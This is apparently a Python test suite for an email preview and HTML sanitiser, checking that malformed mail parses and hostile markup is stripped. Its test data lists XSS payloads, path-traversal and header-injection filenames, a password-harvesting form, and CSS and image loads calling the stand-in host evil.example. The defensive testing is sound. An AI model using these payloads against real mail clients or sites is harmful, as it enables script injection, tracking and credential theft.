"""A mail is shown whatever its bytes are, and its HTML does nothing."""

from email.message import EmailMessage

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mercury.lib.mail import html_cleaning, preview

PICTURE = b"\x89PNG picture"


def a_message(html: str = "<p>Hi</p>", text: str = "Hi") -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "zeus@olimpus.com", "hera@olimpus.com", "Grüße"
    message.set_content(text)
    message.add_alternative(html, subtype="html")
    return message


def cleaned(html: str, *, remote_images: bool = False, **pictures: str) -> str:
    return html_cleaning.clean(html, pictures=pictures, remote_images=remote_images).text


def test_a_message_is_split_into_its_parts():
    message = a_message("<p>Χαῖρε</p>", "Χαῖρε")
    message.add_attachment(b"thunder", maintype="application", subtype="pdf", filename="bolt.pdf")

    shown = preview.read(message.as_bytes())

    assert (shown.text.strip(), shown.html.strip()) == ("Χαῖρε", "<p>Χαῖρε</p>")
    assert ("Subject", "Grüße") in shown.headers
    assert [(file.number, file.name, file.kind, file.content) for file in shown.files] == [
        (1, "bolt.pdf", "application/pdf", b"thunder")
    ]
    assert shown.source == message.as_bytes()


def test_a_text_that_is_attached_is_a_file():
    message = EmailMessage()
    message.set_content("Hi")
    message.add_attachment("<script>", subtype="html", filename="page.html")

    shown = preview.read(message.as_bytes())

    assert (shown.text, shown.html) == ("Hi\n", "")
    assert [file.name for file in shown.files] == ["page.html"]


def test_a_forwarded_mail_is_one_file():
    message = a_message()
    message.add_attachment(a_message("<p>Older</p>"))

    shown = preview.read(message.as_bytes())

    assert shown.html.strip() == "<p>Hi</p>"
    assert [file.kind for file in shown.files] == ["message/rfc822"]
    assert b"Older" in shown.files[0].content


@pytest.mark.parametrize(
    ("sent", "name"),
    [
        ("bolt.pdf", "bolt.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\evil.exe", "evil.exe"),
        ("..", "part-1"),
        ("\u202efdp.exe", "_fdp.exe"),
        ('a"b\r\nX: y', "a_b"),
        ("", "part-1"),
    ],
)
def test_a_files_name_leads_nowhere(sent, name):
    message = (
        b"Content-Type: application/x; name*=utf-8''"
        + "".join(f"%{byte:02X}" for byte in sent.encode()).encode()
        + b"\n\nx"
    )

    [file] = preview.read(message).files

    assert file.name.startswith(name)
    assert "\n" not in preview.build_file_response(file.content, file.name)["Content-Disposition"]


def test_files_are_kept_never_shown():
    message = EmailMessage()
    message.add_attachment("<script>alert(1)</script>", subtype="html", filename="page.html")

    [file] = preview.read(message.as_bytes()).files

    answer = preview.build_file_response(file.content, file.name)

    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"] == 'attachment; filename="page.html"'


@pytest.mark.parametrize(
    "source",
    [
        b"",
        b"\xff\xfe\x00",
        b"Subject: =?nonsense?b?!!!?=\n\nx",
        b"Subject: \xff\xff\n\n\xff",
        b"Content-Type: text/plain; charset=punycode\n\n\xff\xffx-",
        b"Content-Type: text/html; charset=undefined\n\n<p>",
        b"Content-Type: text/plain; charset*=x'y'%ff\n\nx",
        b"Content-Type: multipart/mixed; boundary=a\n\nno part",
        b"Content-Type: multipart/mixed\n\n--\n",
        b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!",
        b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(400)),
    ],
)
def test_no_bytes_break_it(source):
    shown = preview.read(source)

    "".join([shown.text, shown.html, shown.source_shown, *(value for _name, value in shown.headers)]).encode()


HEADERS = st.sampled_from(
    [b"Subject: ", b"Content-Type: ", b"Content-Disposition: ", b"Content-Transfer-Encoding: ", b"Content-ID: ", b"\n"]
)
WORDS = st.sampled_from(
    [
        b"multipart/mixed; boundary=a",
        b"text/html",
        b"; charset=",
        b"utf-7",
        b"idna",
        b"base64",
        b"=?",
        b"?q?",
        b"\n--a\n",
    ]
)


@given(st.lists(HEADERS | WORDS | st.binary(max_size=8) | st.just(b"\n"), max_size=30))
def test_no_arrangement_of_bytes_breaks_it(pieces):
    shown = preview.read(b"".join(pieces))

    shown.clean_html(remote_images=False).text.encode()
    "".join(file.name + file.kind for file in shown.files).encode()


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        '<iframe src="https://evil.example/"></iframe>',
        '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<base href="https://evil.example/">',
        "<style>@import 'https://evil.example/x.css'</style>",
        '<p style="background: url(https://evil.example/x)">',
        '<p style="background: u\\72l(https://evil.example/x)">',
        '<img src="https://evil.example/x.png">',
        '<img src="//evil.example/x.png">',
        '<img src="cid:evil.example">',
        '<img src="/evil.example/x.png">',
        '<a href="//evil.example/">Win</a>',
        '<a href=" \x01//evil.example/">Win</a>',
        '<p style="background: src(https://evil.example/x)">',
        "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
        '<svg><a xlink:href="javascript:alert(1)"><image href="https://evil.example/x"/></a></svg>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<a href="data:text/html,<script>alert(1)</script>">Win</a>',
        '<img src="data:text/html,evil.example">',
        '<img srcset="https://evil.example/x 1x">',
        '<video poster="https://evil.example/x"></video>',
        '<table background="https://evil.example/x"><tr><td>',
        '<a href="javascript:alert(1)">evil.example</a href>',
        '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ],
)
def test_nothing_of_it_runs_loads_or_sends(html):
    text = cleaned(html)

    for word in ("alert", "script", "onerror", "evil.example/", "<form", "<input", "<meta", "<style", "url("):
        assert word not in text


def test_what_makes_a_mail_look_right_stays():
    html = '<table width="600"><tbody><tr><td align="center" style="color:red;padding:4px">Hi <b>Hera</b></td></tr></tbody></table>'

    assert cleaned(html) == html


def test_links_can_be_read_and_open_nothing():
    text = cleaned('<a href="https://olimpus.com/" target="_top">Olympus</a>')

    assert 'href="https://olimpus.com/"' in text
    assert 'target="_blank"' in text
    assert "allow-" not in html_cleaning.POLICY


def test_remote_images_are_counted_and_shown_only_when_asked_for():
    html = '<img src="https://olimpus.com/a.png"><img src="http://olimpus.com/b.png"><p style="background:url(https://olimpus.com/c.png)">'
    html += '<script src="https://olimpus.com/d.js"></script>'

    assert html_cleaning.clean(html, pictures={}, remote_images=False) == html_cleaning.CleanHtml(
        "<img><img><p></p>", 3
    )
    for name in ("a", "b", "c"):
        assert f"://olimpus.com/{name}.png" in cleaned(html, remote_images=True)


def shown_with(content_id: str, html: str, kind: str = "png") -> str:
    message = a_message(html)
    body = message.get_body("html")
    assert body is not None
    body.add_related(PICTURE, "image", kind, cid=f"<{content_id}>")
    shown = preview.read(message.as_bytes())
    assert shown.remote_images == 0
    return shown.clean_html(remote_images=False, picture_path=lambda number: f"/files/{number}/picture").text


def test_pictures_that_the_mail_carries_are_shown_from_signed_paths():
    assert '<img src="/files/1/picture?until=' in shown_with("bolt", '<img src="cid:bolt">')
    assert "/files/1/picture" in shown_with("a+b@olimpus.com", "<img src=' CID:a%2Bb%40olimpus.com'>")


def test_a_picture_that_could_run_scripts_is_a_file_only():
    assert shown_with("bolt", '<img src="cid:bolt">', "svg+xml").strip() == "<img>"


@pytest.mark.parametrize("remote_images", [True, False])
def test_the_answer_carries_the_fences(remote_images):
    shown = preview.read(a_message().as_bytes())
    answer = preview.build_html_response(shown, remote_images=remote_images, picture_path=str)

    policy = answer["Content-Security-Policy"]
    assert policy.startswith("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data: 'self'")
    assert ("https:" in policy) is remote_images
    assert "script-src" not in policy
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    assert answer["Referrer-Policy"] == "no-referrer"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "<p>Hi</p>" in answer.text


def test_html_that_is_nested_deeply_is_cut():
    assert cleaned("<div>" * 5_000 + "deep").count("<div>") < 256
    assert "deep" not in cleaned("<ul><li>" * 5_000 + "deep")
    assert "deep" in cleaned("<div>" * 250 + "deep")


def test_fonts_that_are_never_closed_are_not_repeated_in_each_paragraph():
    fonts = "".join(f"<font color=c{number}>" for number in range(200))

    text = cleaned(f"<p>{fonts}</p>" + "<p>x</p>" * 200)

    assert text.count("<font") == 200
    assert text.count("<p>x</p>") == 200


def test_attributes_that_are_not_shown_cost_no_time():
    attributes = " ".join(f"a{number}=b" for number in range(100_000))

    assert cleaned(f'<p {attributes} title="kept">Hi</p>') == '<p title="kept">Hi</p>'


def test_no_browser_looks_up_the_hosts_of_links():
    shown = html_cleaning.build_response(html_cleaning.CleanHtml("", 0), remote_images=False)

    assert shown["X-DNS-Prefetch-Control"] == "off"


def test_a_title_is_not_text_and_a_noscript_is():
    assert cleaned("<title>T</title><noscript><p>Hi</p></noscript>") == "<p>Hi</p>"


def test_markup_within_an_attribute_of_a_noscript_stays_text():
    text = cleaned("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>")

    assert text == '<p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"></p>'
